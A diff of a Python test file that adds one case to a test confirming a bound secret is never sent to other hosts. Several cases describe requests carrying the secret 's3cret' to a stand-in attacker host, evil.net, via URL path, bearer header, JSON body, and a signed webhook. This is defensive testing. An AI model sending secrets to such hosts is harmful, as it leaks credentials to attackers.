@@ -228,6 +228,7 @@ def test_a_header_that_says_how_the_call_is_made_is_refused(headers: dict[str, s
         Outgoing("GET", "https://evil.net/hook/s3cret"),
         Outgoing("GET", "https://evil.net", {"Authorization": "Bearer s3cret"}),
         Outgoing("POST", "https://evil.net", body=b'{"token": "s3cret"}'),
+        Outgoing("POST", "https://evil.net", {"webhook-signature": "v1,x"}, b"{}", key="s3cret"),
     ],
 )
 def test_a_secret_that_is_bound_goes_nowhere_else(outgoing: Outgoing) -> None:
